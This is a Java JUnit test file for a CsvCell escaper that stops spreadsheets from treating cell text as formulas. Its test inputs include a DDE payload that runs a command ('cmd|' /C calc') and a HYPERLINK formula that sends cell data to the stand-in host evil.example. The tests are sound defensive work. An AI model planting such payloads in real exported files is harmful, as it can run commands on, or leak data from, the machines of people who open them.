package io.gridcast.server.dataset;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CsvCellTest {
  @Test
  void textThatASpreadsheetReadsAsAFormula_isWrittenAsText() {
    assertThat(CsvCell.of("=1+2")).isEqualTo("'=1+2");
    assertThat(CsvCell.of("+cmd|' /C calc'!A0")).isEqualTo("'+cmd|' /C calc'!A0");
    assertThat(CsvCell.of("-2+3")).isEqualTo("'-2+3");
    assertThat(CsvCell.of("@SUM(A1)")).isEqualTo("'@SUM(A1)");
    assertThat(CsvCell.of("\t=1")).isEqualTo("'\t=1");
    assertThat(CsvCell.of("\r=1")).isEqualTo("\"'\r=1\"");
  }

  @Test
  void aNeutralisedFormulaWithCommasAndQuotes_isAlsoQuoted() {
    assertThat(CsvCell.of("=HYPERLINK(\"http://evil.example?\"&A1,\"open\")"))
        .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"open\"\")\"");
  }

  @Test
  void plainNumbersAndOrdinaryText_areLeftAsTheyAre() {
    assertThat(CsvCell.of("-3")).isEqualTo("-3");
    assertThat(CsvCell.of("+1.5e3")).isEqualTo("+1.5e3");
    assertThat(CsvCell.of("-.5")).isEqualTo("-.5");
    assertThat(CsvCell.of("SKU-1")).isEqualTo("SKU-1");
    assertThat(CsvCell.of("a=b")).isEqualTo("a=b");
    assertThat(CsvCell.of("")).isEmpty();
    assertThat(CsvCell.of("a,b")).isEqualTo("\"a,b\"");
  }
}
